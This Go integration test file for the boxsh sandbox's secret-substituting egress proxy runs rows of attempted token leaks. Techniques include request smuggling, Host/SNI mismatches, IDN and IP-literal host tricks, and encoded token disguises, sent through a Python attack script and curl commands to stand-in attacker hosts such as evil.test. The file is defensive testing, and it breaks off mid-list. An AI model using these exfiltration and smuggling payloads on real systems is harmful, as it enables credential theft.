//go:build linux

package integration

import (
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httputil"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/boxsh/boxsh/integration/internal/outside"
)

// The attacks of a command in the sandbox on its secrets (issue 38): it
// knows boxsh's source and wants a secret's value, or the value sent to a
// host it is not for, or the proxy to trust or show what would let it.
// Each test is a family, each row an attack that must fail.

// The values of the attacks' secrets: never in anything the sandbox sees.
const (
	ghValue   = "ghp_AttackValue0123456789abcdefGHIJKLmn"
	wildValue = "wild-AttackValue9876543210zyxwvuTSRQ"
	portValue = "port-AttackValue5555544444qqqqqWWWWW"
)

// attackValues are the values the sandbox must never see.
var attackValues = []string{ghValue, wildValue, portValue}

// A hit is a request an origin of the attacks received.
type hit struct {
	origin string // the name the listener is for
	path   string
	dump   string // the request as received, body included
}

// origins are the attacks' origins, each a listener of its own.
type origins struct {
	addrs map[string]string
	pem   string // the roots of the TLS origins
	mu    sync.Mutex
	hits  []hit
}

// seen are the requests received so far.
func (o *origins) seen() []hit {
	o.mu.Lock()
	defer o.mu.Unlock()
	return append([]hit(nil), o.hits...)
}

// at are the origins that received a request for path.
func (o *origins) at(path string) []string {
	var names []string
	for _, h := range o.seen() {
		if h.path == path {
			names = append(names, h.origin)
		}
	}
	return names
}

// startOrigins starts an origin in the stand-in internet (standIn, and
// see serveName) for each of plain (HTTP) and tls (HTTPS, httptest's
// certificate for example.com). Each records every request whole and
// answers it back, all but its Authorization header: a reflecting API.
func startOrigins(t *testing.T, plain, tls []string) *origins {
	t.Helper()
	n := standIn(t, outside.Config{Names: append(slices.Clone(plain), tls...)})
	o := &origins{addrs: map[string]string{}}
	var roots []byte
	handler := func(name string) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			dump, _ := httputil.DumpRequest(r, true)
			for k, vs := range r.Trailer {
				dump = fmt.Appendf(dump, "\ntrailer %s=%s", k, strings.Join(vs, ","))
			}
			o.mu.Lock()
			o.hits = append(o.hits, hit{origin: name, path: r.URL.Path, dump: string(dump)})
			o.mu.Unlock()
			r.Header.Del("Authorization")
			echo, _ := httputil.DumpRequest(r, false)
			body, _ := io.ReadAll(r.Body)
			fmt.Fprintf(w, "origin %s echoes:\n%s%s\n", name, echo, body)
		})
	}
	for _, name := range plain {
		o.addrs[name] = serveName(t, n, name, handler(name), false).Listener.Addr().String()
	}
	for _, name := range tls {
		srv := serveName(t, n, name, handler(name), true)
		o.addrs[name] = srv.Listener.Addr().String()
		if len(roots) == 0 {
			roots = pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw})
		}
	}
	if len(roots) > 0 {
		o.pem = filepath.Join(t.TempDir(), "origin.crt")
		writeHostFile(t, o.pem, string(roots), 0o644)
	}
	return o
}

// port is the port of origin name.
func (o *origins) port(name string) string {
	_, p, _ := net.SplitHostPort(o.addrs[name])
	return p
}

// attackPy is the attacker's tool inside the sandbox: it sends raw bytes
// to the proxy (127.0.0.1:3128), plainly, in a CONNECT tunnel or a SOCKS5
// one and then TLS with the server name it chooses, verifying nothing, and
// prints the answer. In the bytes, {S} is $GH_TOKEN's stand-in, {W}
// $WILD_TOKEN's, {P} $PORT_TOKEN's, and the forms {S64} (base64), {SPCT}
// (each byte percent-encoded), {SPCT2} (twice), {SLOW}, {SUP}, {SA} and {SB} (its halves)
// and {BASIC} (a Basic credential x:{S}) are the attacks' disguises.
const attackPy = `
import base64, os, socket, ssl, sys
S, W, P = (os.environ.get(n, '') for n in ('GH_TOKEN', 'WILD_TOKEN', 'PORT_TOKEN'))
def fill(b):
    t = b.decode()
    for k, v in (('{S64}', base64.b64encode(S.encode()).decode()), ('{SPCT}', ''.join('%%%02X' % c for c in S.encode())),
                 ('{SPCT2}', ''.join('%%25%02X' % c for c in S.encode())),
                 ('{SLOW}', S.lower()), ('{SUP}', S.upper()), ('{SA}', S[:len(S)//2]), ('{SB}', S[len(S)//2:]),
                 ('{BASIC}', base64.b64encode(('x:' + S).encode()).decode()), ('{S}', S), ('{W}', W), ('{P}', P)):
        t = t.replace(k, v)
    return t.encode()
def readall(c):
    out = b''
    try:
        while True:
            d = c.recv(65536)
            if not d:
                break
            out += d
    except Exception as e:
        out += ('\n[%s: %s]' % (type(e).__name__, e)).encode()
    return out
mode, req = sys.argv[1], fill(base64.b64decode(sys.argv[-1]))
c = socket.create_connection(('127.0.0.1', 3128), timeout=10)
if mode == 'plain':
    c.sendall(req)
    out = readall(c)
else:
    host, port, sni = sys.argv[2], int(sys.argv[3]), sys.argv[4]
    if mode == 'connect':
        c.sendall(b'CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n' % (host.encode(), port, host.encode(), port))
        head = b''
        while b'\r\n\r\n' not in head:
            d = c.recv(1)
            if not d:
                break
            head += d
        if b' 200 ' not in head.split(b'\r\n')[0]:
            sys.stdout.write('refused: ' + head.decode(errors='replace'))
            sys.exit(0)
    else:
        c.sendall(b'\x05\x01\x00')
        c.recv(2)
        c.sendall(b'\x05\x01\x00\x03' + bytes([len(host)]) + host.encode() + port.to_bytes(2, 'big'))
        r = c.recv(10)
        if r[1] != 0:
            print('refused: socks', r[1])
            sys.exit(0)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    try:
        t = ctx.wrap_socket(c, server_hostname=None if sni == '-' else sni)
    except Exception as e:
        print('tls failed:', e)
        sys.exit(0)
    der = t.getpeercert(binary_form=True) or b''
    print('issuer=' + ('boxsh' if b'boxsh egress CA' in der else 'origin'))
    t.sendall(req)
    out = readall(t)
sys.stdout.write(out.decode(errors='replace'))
`

// installAttack is the command that puts attackPy in the sandbox's /tmp.
func installAttack() string {
	return `echo ` + base64.StdEncoding.EncodeToString([]byte(attackPy)) + ` | base64 -d > /tmp/attack.py; echo installed`
}

// plainAttack sends req as it is to the proxy.
func plainAttack(req string) string {
	return `python3 /tmp/attack.py plain ` + base64.StdEncoding.EncodeToString([]byte(req))
}

// tunnelAttack opens a tunnel to host:port (mode "connect" or "socks"),
// then TLS with server name sni ("-": none), and sends req in it.
func tunnelAttack(mode, host, port, sni, req string) string {
	return fmt.Sprintf("python3 /tmp/attack.py %s %s %s %s %s", mode, host, port, sni, base64.StdEncoding.EncodeToString([]byte(req)))
}

// An attack is one row of a family: a command in the sandbox, what its
// output must hold and must not, and the origins that receive its request
// (a path of its own). In want, nowant and path, {S}, {W} and {P} are the
// stand-ins, known once the sandbox ran.
type attack struct {
	name   string
	cmd    string
	path   string   // the request's path, which names it at the origins
	want   []string // in the command's output
	nowant []string // not in it
	reach  []string // the origins that receive it (nil: none)
	notAt  []string // origins that must not receive it, where reach is not told
}

// runAttacks runs the rows in one sandbox of args, and checks each, and
// that no value is in anything the sandbox saw. It returns the stand-ins
// of $GH_TOKEN, $WILD_TOKEN and $PORT_TOKEN, and the rows' outputs.
func runAttacks(t *testing.T, o *origins, args []string, rows []attack) (standIns, out []string) {
	t.Helper()
	ctx := testContext(t)
	t.Setenv("GH_TOKEN", ghValue)
	t.Setenv("WILD_TOKEN", wildValue)
	t.Setenv("PORT_TOKEN", portValue)
	cmds := []string{installAttack(), `echo "${GH_TOKEN:--} ${WILD_TOKEN:--} ${PORT_TOKEN:--}"`}
	for _, a := range rows {
		cmds = append(cmds, a.cmd)
	}
	r := runBoxsh(t, ctx, "", append(append([]string{"--sandbox"}, args...), "-c", sections(cmds))...)
	t.Logf("stderr:\n%s", r.stderr)
	all := splitSections(t, r.stdout, len(cmds))
	require.Equal(t, "installed", all[0])
	standIns = strings.Fields(all[1])
	require.Len(t, standIns, 3, "the stand-ins: %q", all[1])
	fill := strings.NewReplacer("{S}", standIns[0], "{W}", standIns[1], "{P}", standIns[2])
	for _, v := range attackValues {
		assert.NotContains(t, r.stdout, v, "a value in the sandbox's output")
		assert.NotContains(t, r.stderr, v, "a value in the front's log")
	}
	out = all[2:]
	for i, a := range rows {
		first, _, _ := strings.Cut(strings.TrimPrefix(out[i], "issuer=boxsh\n"), "\n")
		t.Logf("%s: %.100s", a.name, first)
		for _, w := range a.want {
			assert.Contains(t, out[i], fill.Replace(w), "%s: its output", a.name)
		}
		for _, w := range a.nowant {
			assert.NotContains(t, out[i], fill.Replace(w), "%s: its output", a.name)
		}
		for _, at := range o.at(fill.Replace(a.path)) {
			assert.NotContains(t, a.notAt, at, "%s: reached; its output:\n%s", a.name, out[i])
		}
		if a.path != "" && a.notAt == nil {
			assert.Equal(t, a.reach, o.at(fill.Replace(a.path)), "%s: the origins it reached; its output:\n%s", a.name, out[i])
		}
	}
	return standIns, out
}

// checkValuesWent checks that each value reached only the origins in its
// entry of where (the secret's hosts), in the Authorization header only.
func checkValuesWent(t *testing.T, o *origins, where map[string][]string) {
	t.Helper()
	auth := regexp.MustCompile(`(?mi)^Authorization: .*\r?\n`)
	for _, h := range o.seen() {
		for v, at := range where {
			if !strings.Contains(h.dump, v) {
				continue
			}
			assert.Contains(t, at, h.origin, "the value %s reached %s:\n%s", v, h.origin, h.dump)
			assert.NotContains(t, auth.ReplaceAllString(h.dump, ""), v, "the value outside Authorization at %s:\n%s", h.origin, h.dump)
		}
	}
}

// readDoc is the text of the file path of the repository's docs, each
// run of white space one space.
func readDoc(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "docs", path))
	require.NoError(t, err)
	return strings.Join(strings.Fields(string(b)), " ")
}

// TestSecretEscapeEcho is the reflection family: the secret's own host
// answers back all it receives but Authorization, so the stand-in put
// anywhere else in a request to it must arrive as it is, and the answer
// shows only the stand-in. An API that echoes Authorization itself is
// outside what a secret protects, as docs/security.md says.
func TestSecretEscapeEcho(t *testing.T) {
	requireRootless(t)
	o := startOrigins(t, []string{"api.example.com"}, []string{"example.com"})
	p, tp := o.port("api.example.com"), o.port("example.com")
	get := func(path, extra string) string {
		return "GET http://api.example.com:" + p + path + " HTTP/1.1\r\nHost: api.example.com:" + p + "\r\nAuthorization: Bearer {S}\r\n" + extra + "Connection: close\r\n\r\n"
	}
	body := "token={S}"
	post := fmt.Sprintf("POST http://api.example.com:%s/e5 HTTP/1.1\r\nHost: api.example.com:%s\r\nAuthorization: Bearer {S}\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", p, p, len(body)-3+len(ghValue), body)
	tlsGet := func(path, extra string) string {
		return "GET " + path + " HTTP/1.1\r\nHost: example.com:" + tp + "\r\nAuthorization: Bearer {S}\r\n" + extra + "Connection: close\r\n\r\n"
	}
	tlsPost := fmt.Sprintf("POST /e8 HTTP/1.1\r\nHost: example.com\r\nAuthorization: Bearer {S}\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(body)-3+len(ghValue), body)
	api := []string{"api.example.com"}
	rows := []attack{
		// The stand-in in a header no secret names.
		{name: "custom header", cmd: plainAttack(get("/e1", "X-Echo: {S}\r\n")), path: "/e1", want: []string{"X-Echo: {S}"}, reach: api},
		// In the query.
		{name: "query", cmd: plainAttack(get("/e2?t={S}", "")), path: "/e2", want: []string{"/e2?t={S}"}, reach: api},
		// In the path.
		{name: "path", cmd: plainAttack(get("/e3/{S}", "")), path: "/e3/{S}", want: []string{"/e3/{S}"}, reach: api},
		// In a cookie.
		{name: "cookie", cmd: plainAttack(get("/e4", "Cookie: t={S}\r\n")), path: "/e4", want: []string{"Cookie: t={S}"}, reach: api},
		// In the body.
		{name: "body", cmd: plainAttack(post), path: "/e5", want: []string{"token={S}"}, reach: api},
		// In headers named like a credential: X-Authorization is not one;
		// Proxy-Authorization is the proxy's, never forwarded.
		{name: "credential-like headers", cmd: plainAttack(get("/e6", "Proxy-Authorization: Bearer {S}\r\nX-Authorization: Bearer {S}\r\n")), path: "/e6", want: []string{"X-Authorization: Bearer {S}"}, nowant: []string{"Proxy-Authorization"}, reach: api},
		// TRACE, which a server answers with the request itself, Authorization
		// included: the proxy puts no value in one.
		{name: "TRACE", cmd: plainAttack("TRACE " + "http://api.example.com:" + p + "/e9 HTTP/1.1\r\nAuthorization: Bearer {S}\r\nConnection: close\r\n\r\n"), path: "/e9", want: []string{"403", "TRACE"}},
		{name: "TRACK in the tunnel", cmd: tunnelAttack("connect", "example.com", tp, "example.com", httpReq("TRACK", "/e10", "Host: example.com\r\nAuthorization: Basic {BASIC}\r\n", "")), path: "/e10", want: []string{"403", "TRACK"}},
		// The same places, in a terminated HTTPS tunnel.
		{name: "tls header, cookie, query", cmd: tunnelAttack("connect", "example.com", tp, "example.com", tlsGet("/e7?q={S}", "X-Echo: {S}\r\nCookie: c={S}\r\n")), path: "/e7", want: []string{"issuer=boxsh", "X-Echo: {S}", "Cookie: c={S}", "/e7?q={S}"}, reach: []string{"example.com"}},
		{name: "tls body", cmd: tunnelAttack("connect", "example.com", tp, "example.com", tlsPost), path: "/e8", want: []string{"token={S}"}, reach: []string{"example.com"}},
	}
	runAttacks(t, o, []string{"--secret", "GH_TOKEN=api.example.com,example.com", "--ca-file", o.pem}, rows)
	require.Len(t, o.seen(), len(rows)-2, "all but TRACE and TRACK reach the origins")
	for _, h := range o.seen() {
		assert.Contains(t, h.dump, "Bearer "+ghValue, "%s: the value in Authorization", h.path)
	}
	checkValuesWent(t, o, map[string][]string{ghValue: {"api.example.com", "example.com"}})

	// The documented limit: an origin that echoes Authorization.
	assert.Contains(t, readDoc(t, "security.md"), "an API that echoes its `Authorization` header would show the value")
}

// httpReq is a plain HTTP proxy request for url (absolute form) with the
// extra header lines (each ending in CRLF) and body.
func httpReq(method, url, extra, body string) string {
	h := method + " " + url + " HTTP/1.1\r\n" + extra
	if body != "" {
		h += fmt.Sprintf("Content-Length: %d\r\n", len(body))
	}
	return h + "Connection: close\r\n\r\n" + body
}

// The attacks' secrets and origins: GH_TOKEN for api.example.com (HTTP)
// and example.com (HTTPS), WILD_TOKEN for *.wild.example, PORT_TOKEN for
// port.example on its origin's port only; every other origin is an
// allowed host the values are not for.
var (
	attackPlain = []string{"api.example.com", "evil.example", "api.example.com.attacker.test", "a.wild.example", "evil.wild.example.attacker.test", "wild.example", "port.example"}
	attackTLS   = []string{"example.com", "evil.test"}
)

// attackArgs are the flags of the attacks' sandbox.
func attackArgs(o *origins) []string {
	args := []string{
		"--secret", "GH_TOKEN=api.example.com,example.com", "--secret", "WILD_TOKEN=*.wild.example",
		"--secret", "PORT_TOKEN=port.example:" + o.port("port.example"), "--ca-file", o.pem,
	}
	for _, h := range []string{"evil.example", "api.example.com.attacker.test", "evil.wild.example.attacker.test", "wild.example", "port.example", "evil.test", "127.0.0.1"} {
		args = append(args, "--allow-domain", h)
	}
	return args
}

// attackWhere are the origins each value may reach.
var attackWhere = map[string][]string{ghValue: {"api.example.com", "example.com"}, wildValue: {"a.wild.example"}, portValue: {"port.example"}}

// TestSecretEscapeRedirect is the family of attacks that try to send a
// value to a host it is not for: Host headers, server names, request
// lines in a terminated tunnel, pipelining, smuggling, upgrades,
// trailers, host name forms, IP literals, ports, names the transparent
// path resolves. The value reaches only its own hosts.
func TestSecretEscapeRedirect(t *testing.T) {
	requireRootless(t)
	o := startOrigins(t, attackPlain, attackTLS)
	p, ep, tp, etp := o.port("api.example.com"), o.port("evil.example"), o.port("example.com"), o.port("evil.test")
	pp := o.port("port.example")
	api, evil := "http://api.example.com:"+p, "http://evil.example:"+ep
	bearer := "Authorization: Bearer {S}\r\n"
	refused := []string{"403", "carries the stand-in of secret GH_TOKEN"}
	rows := []attack{
		// An absolute-form request to evil with the secret host's Host header.
		{name: "Host header of the secret host", cmd: plainAttack(httpReq("GET", evil+"/r1", "Host: api.example.com\r\n"+bearer, "")), path: "/r1", want: refused},
		// A request to the secret host with evil's Host header: the value goes to the host dialed, the secret's.
		{name: "Host header of evil", cmd: plainAttack(httpReq("GET", api+"/r2", "Host: evil.example:"+ep+"\r\n"+bearer, "")), path: "/r2", want: []string{"origin api.example.com", "Host: api.example.com"}, reach: []string{"api.example.com"}},
		// CONNECT to the secret host, then TLS with evil's server name.
		{name: "CONNECT secret, SNI evil", cmd: tunnelAttack("connect", "example.com", tp, "evil.test", httpReq("GET", "/r3", "Host: evil.test\r\n"+bearer, "")), path: "/r3", want: []string{"tls failed"}},
		// The same over SOCKS5, the transparent path's protocol.
		{name: "SOCKS secret, SNI evil", cmd: tunnelAttack("socks", "example.com", tp, "evil.test", httpReq("GET", "/r4", "Host: evil.test\r\n"+bearer, "")), path: "/r4", want: []string{"tls failed"}},
		// CONNECT to evil with the secret host's server name: untouched, so the proxy puts nothing in.
		{name: "CONNECT evil, SNI secret", cmd: tunnelAttack("connect", "evil.test", etp, "example.com", httpReq("GET", "/r5", "Host: example.com\r\n"+bearer, "")), path: "/r5", want: []string{"issuer=origin", "origin evil.test"}, reach: []string{"evil.test"}},
		// In a terminated tunnel, an absolute-form request line for evil: it goes to the tunnel's host.
		{name: "absolute form in the tunnel", cmd: tunnelAttack("connect", "example.com", tp, "example.com", httpReq("GET", "http://evil.test:"+etp+"/r6", "Host: evil.test\r\n"+bearer, "")), path: "/r6", want: []string{"issuer=boxsh", "origin example.com"}, reach: []string{"example.com"}},
		// No server name at all: the tunnel's host's certificate, the tunnel's host.
		{name: "no SNI", cmd: tunnelAttack("connect", "example.com", tp, "-", httpReq("GET", "/r7", "Host: evil.test\r\n"+bearer, "")), path: "/r7", want: []string{"issuer=boxsh", "origin example.com"}, reach: []string{"example.com"}},
		// Two requests on one plain proxy connection, the second to evil with the stand-in: the proxy serves one.
		{name: "pipelining", cmd: plainAttack("GET " + api + "/r8a HTTP/1.1\r\nHost: api.example.com\r\n\r\n" + httpReq("GET", evil+"/r8", bearer, "")), path: "/r8", want: []string{"origin api.example.com"}, notAt: []string{"evil.example"}},
		// Pipelining in a terminated tunnel: both go to the tunnel's host.
		{name: "pipelining in the tunnel", cmd: tunnelAttack("connect", "example.com", tp, "example.com", "GET /r9a HTTP/1.1\r\nHost: example.com\r\n\r\n"+httpReq("GET", "http://evil.test/r9", "Host: evil.test\r\n"+bearer, "")), path: "/r9", want: []string{"origin example.com"}, notAt: []string{"evil.test"}},
		// Smuggling (Content-Length and Transfer-Encoding) through the plain proxy.
		{name: "smuggling, plain", cmd: plainAttack("POST " + api + "/r10a HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + httpReq("GET", evil+"/r10", bearer, "")), path: "/r10", notAt: []string{"evil.example"}},
		// Smuggling in a terminated tunnel.
		{name: "smuggling in the tunnel", cmd: tunnelAttack("connect", "example.com", tp, "example.com", "POST /r11a HTTP/1.1\r\nHost: example.com\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+httpReq("GET", "http://evil.test/r11", "Host: evil.test\r\n"+bearer, "")), path: "/r11", notAt: []string{"evil.test"}},
		// An upgrade to evil with the stand-in.
		{name: "upgrade", cmd: plainAttack(httpReq("GET", evil+"/r12", "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"+bearer, "")), path: "/r12", want: refused},
		// An Authorization trailer to the secret host: trailers get no value.
		{name: "trailer to the secret host", cmd: plainAttack("POST " + api + "/r13 HTTP/1.1\r\nTransfer-Encoding: chunked\r\nTrailer: Authorization\r\nConnection: close\r\n\r\n1\r\nx\r\n0\r\nAuthorization: Bearer {S}\r\n\r\n"), path: "/r13", notAt: attackTLS},
		// A wildcard secret's host with a tail: not one of its hosts.
		{name: "wildcard with a tail", cmd: plainAttack(httpReq("GET", "http://evil.wild.example.attacker.test:"+ep+"/r14", "Authorization: Bearer {W}\r\n", "")), path: "/r14", want: []string{"403", "WILD_TOKEN"}},
		// The secret host with a tail.
		{name: "name with a tail", cmd: plainAttack(httpReq("GET", "http://api.example.com.attacker.test:"+ep+"/r15", bearer, "")), path: "/r15", want: refused},
		// A wildcard does not match its apex.
		{name: "wildcard apex", cmd: plainAttack(httpReq("GET", "http://wild.example:"+ep+"/r16", "Authorization: Bearer {W}\r\n", "")), path: "/r16", want: []string{"403", "WILD_TOKEN"}},
		// Case and a trailing dot are the same host: the value goes to it, the right one.
		{name: "case and trailing dot", cmd: plainAttack(httpReq("GET", "http://A.Wild.Example.:"+ep+"/r17", "Authorization: Bearer {W}\r\n", "")), path: "/r17", want: []string{"origin a.wild.example"}, reach: []string{"a.wild.example"}},
		// A percent-encoded host name.
		{name: "percent-encoded host", cmd: plainAttack(httpReq("GET", "http://evil%2Eexample:"+ep+"/r18", "Host: api.example.com\r\n"+bearer, "")), path: "/r18", notAt: []string{"evil.example"}},
		// An IDN look-alike of the secret host (a Cyrillic "е").
		{name: "IDN look-alike", cmd: plainAttack(httpReq("GET", "http://api.\u0435xample.com:"+p+"/r19", bearer, "")), path: "/r19", want: []string{"40"}},
		// Its punycode form.
		{name: "punycode", cmd: plainAttack(httpReq("GET", "http://api.xn--xample-2of.com:"+p+"/r20", bearer, "")), path: "/r20", want: []string{"403"}},
		// IP literals of the secret host's address.
		{name: "IPv4 literal", cmd: plainAttack(httpReq("GET", "http://127.0.0.1:"+p+"/r21", bearer, "")), path: "/r21", want: refused},
		{name: "IPv4-mapped IPv6 literal", cmd: plainAttack(httpReq("GET", "http://[::ffff:127.0.0.1]:"+p+"/r22", bearer, "")), path: "/r22", want: refused},
		{name: "decimal IPv4", cmd: plainAttack(httpReq("GET", "http://2130706433:"+p+"/r23", bearer, "")), path: "/r23", want: []string{"403"}},
		// A secret for one port, used on another of its host.
		{name: "the secret's port", cmd: plainAttack(httpReq("GET", "http://port.example:"+pp+"/r24", "Authorization: Bearer {P}\r\n", "")), path: "/r24", want: []string{"origin port.example"}, reach: []string{"port.example"}},
		{name: "another port", cmd: plainAttack(httpReq("GET", "http://port.example:1/r25", "Authorization: Bearer {P}\r\n", "")), path: "/r25", want: []string{"403", "PORT_TOKEN"}},
		// One secret's stand-in to another secret's host.
		{name: "another secret's host", cmd: plainAttack(httpReq("GET", api+"/r26", "Authorization: Bearer {W}\r\n", "")), path: "/r26", want: []string{"403", "WILD_TOKEN"}},
		// The transparent path: evil's name resolved for a connection to the secret host's.
		{name: "transparent, evil's address for the secret host", cmd: `curl -sSk --max-time 10 --noproxy '*' --connect-to example.com:443:evil.test:443 -H "Authorization: Bearer $GH_TOKEN" https://example.com/r27`, path: "/r27", want: []string{"origin evil.test"}, reach: []string{"evil.test"}},
		// The transparent path: the secret host's address for evil's name.
		{name: "transparent, the secret host's address for evil", cmd: `curl -sSk --max-time 10 --noproxy '*' --connect-to evil.test:443:example.com:443 -H "Authorization: Bearer $GH_TOKEN" https://evil.test/r28; echo " rc=$?"`, path: "/r28", want: []string{"rc=35"}},
		// The transparent path, plain HTTP to the secret's host: the proxy
		// sees an HTTP request, not TLS, and serves it as such, to the
		// secret's host only.
		{name: "transparent, plain HTTP", cmd: `curl -sS --max-time 10 --noproxy '*' -H "Authorization: Bearer $GH_TOKEN" http://api.example.com/r29; echo " rc=$?"`, path: "/r29", want: []string{"rc=0"}, reach: []string{"api.example.com"}},
		// In a terminated tunnel, another secret's stand-in as the Host: the proxy reads no Host (the tunnel's host is the destination), so it goes, a stand-in.
		{name: "limit: a stand-in as the Host in the tunnel", cmd: tunnelAttack("connect", "example.com", tp, "example.com", httpReq("GET", "/r30", "Host: {W}\r\n", "")), path: "/r30", reach: []string{"example.com"}},
	}
	runAttacks(t, o, attackArgs(o), rows)
	checkValuesWent(t, o, attackWhere)
	for _, h := range o.seen() {
		if h.path == "/r13" {
			assert.NotContains(t, h.dump, ghValue, "a trailer gets no value")
		}
	}
}

// TestSecretEscapeForms is the family of the stand-in's disguises in a
// request to a host it is not for. Those the proxy sees are refused; those
// it cannot (base64 outside a Basic credential, halves in two headers,
// another case, double percent-encoding, a body, a trailer, an untouched
// tunnel) send the stand-in, which is worth nothing there: the proxy puts
// a value only in requests to its hosts. The origin never has the value.
func TestSecretEscapeForms(t *testing.T) {
	requireRootless(t)
	o := startOrigins(t, attackPlain, attackTLS)
	ep, etp := o.port("evil.example"), o.port("evil.test")
	evil := "http://evil.example:" + ep
	refused := []string{"403", "carries the stand-in of secret GH_TOKEN"}
	sent := []string{"evil.example"}
	rows := []attack{
		{name: "Basic credential", cmd: plainAttack(httpReq("GET", evil+"/f1", "Authorization: Basic {BASIC}\r\n", "")), path: "/f1", want: refused},
		{name: "Basic credential in a custom header", cmd: plainAttack(httpReq("GET", evil+"/f2", "X-Auth: Basic {BASIC}\r\n", "")), path: "/f2", want: refused},
		{name: "URL userinfo", cmd: plainAttack(httpReq("GET", "http://x:{S}@evil.example:"+ep+"/f3", "", "")), path: "/f3", want: refused},
		{name: "in the path, percent-encoded", cmd: plainAttack(httpReq("GET", evil+"/f4/{SPCT}", "", "")), path: "/f4/{S}", want: refused},
		{name: "in the query, percent-encoded", cmd: plainAttack(httpReq("GET", evil+"/f5?t={SPCT}", "", "")), path: "/f5", want: refused},
		{name: "in a header's name", cmd: plainAttack(httpReq("GET", evil+"/f6", "X-{S}: 1\r\n", "")), path: "/f6", want: refused},
		{name: "in a cookie", cmd: plainAttack(httpReq("GET", evil+"/f7", "Cookie: t={S}\r\n", "")), path: "/f7", want: refused},
		{name: "in the fragment of an absolute URL", cmd: plainAttack(httpReq("GET", evil+"/f8#{S}", "", "")), path: "/f8", notAt: sent},
		// Limits: forms the proxy does not look for; only the stand-in goes.
		{name: "limit: base64 in a custom header", cmd: plainAttack(httpReq("GET", evil+"/f9", "X-T: {S64}\r\n", "")), path: "/f9", reach: sent},
		{name: "limit: halves in two headers", cmd: plainAttack(httpReq("GET", evil+"/f10", "X-A: {SA}\r\nX-B: {SB}\r\n", "")), path: "/f10", reach: sent},
		{name: "limit: lower case", cmd: plainAttack(httpReq("GET", evil+"/f11", "X-T: {SLOW}\r\n", "")), path: "/f11", reach: sent},
		{name: "limit: upper case", cmd: plainAttack(httpReq("GET", evil+"/f12", "X-T: {SUP}\r\n", "")), path: "/f12", reach: sent},
		{name: "limit: double percent-encoding", cmd: plainAttack(httpReq("GET", evil+"/f13?t={SPCT2}", "", "")), path: "/f13", reach: sent},
		{name: "limit: in the body", cmd: plainAttack(httpReq("POST", evil+"/f14", "", "t={S}")), path: "/f14", reach: sent},
		{name: "limit: in a trailer", cmd: plainAttack("POST " + evil + "/f15 HTTP/1.1\r\nTransfer-Encoding: chunked\r\nTrailer: X-T\r\nConnection: close\r\n\r\n1\r\nx\r\n0\r\nX-T: {S}\r\n\r\n"), path: "/f15", reach: sent},
		{name: "limit: an untouched TLS tunnel", cmd: tunnelAttack("connect", "evil.test", etp, "evil.test", httpReq("GET", "/f16", "Host: evil.test\r\nAuthorization: Bearer {S}\r\n", "")), path: "/f16", want: []string{"issuer=origin"}, reach: []string{"evil.test"}},
		{name: "limit: plain HTTP in a CONNECT tunnel", cmd: `python3 -c 'import os,socket
c=socket.create_connection(("127.0.0.1",3128))
c.sendall(b"CONNECT evil.example:` + ep + ` HTTP/1.1\r\n\r\n")
print(c.recv(4096).decode())
c.sendall(("GET /f17 HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer "+os.environ["GH_TOKEN"]+"\r\nConnection: close\r\n\r\n").encode())
print(c.recv(65536).decode())'`, path: "/f17", reach: sent},
	}
	runAttacks(t, o, attackArgs(o), rows)
	checkValuesWent(t, o, attackWhere)
	for _, h := range o.seen() {
		assert.NotContains(t, h.dump, ghValue, "%s: no value at %s", h.path, h.origin)
	}
}

// TestSecretEscapeTrust is the family of attacks on whom the proxy
// believes and what it shows: it terminates TLS for the secrets' hosts
// only, whatever server name the client gives; it sends a value only to a
// server verified for the host's name by the host's roots and --ca-file.
func TestSecretEscapeTrust(t *testing.T) {
	requireRootless(t)
	// httptest's certificate is for example.com: wrong.example's is wrong.
	o := startOrigins(t, nil, []string{"example.com", "evil.test", "wrong.example"})
	tp, etp, wp := o.port("example.com"), o.port("evil.test"), o.port("wrong.example")
	get := func(path, host string) string {
		return httpReq("GET", path, "Host: "+host+"\r\nAuthorization: Bearer {S}\r\n", "")
	}
	untouched := []string{"issuer=origin", "origin evil.test"}
	rows := []attack{
		// A host no secret is for, with a secret host's server name: not terminated.
		{name: "no secret, secret's SNI", cmd: tunnelAttack("connect", "evil.test", etp, "example.com", get("/t1", "evil.test")), path: "/t1", want: untouched, reach: []string{"evil.test"}},
		{name: "no secret, own SNI", cmd: tunnelAttack("connect", "evil.test", etp, "evil.test", get("/t2", "evil.test")), path: "/t2", want: untouched, reach: []string{"evil.test"}},
		{name: "no secret, SOCKS", cmd: tunnelAttack("socks", "evil.test", etp, "example.com", get("/t3", "evil.test")), path: "/t3", want: untouched, reach: []string{"evil.test"}},
		// A secret's host whose server shows a certificate for another name.
		{name: "upstream with the wrong name", cmd: tunnelAttack("connect", "wrong.example", wp, "wrong.example", get("/t4", "wrong.example")), path: "/t4", want: []string{"issuer=boxsh", "502", "TLS to wrong.example:" + wp}},
		// A client that does not verify gets the proxy's certificate, for the host alone.
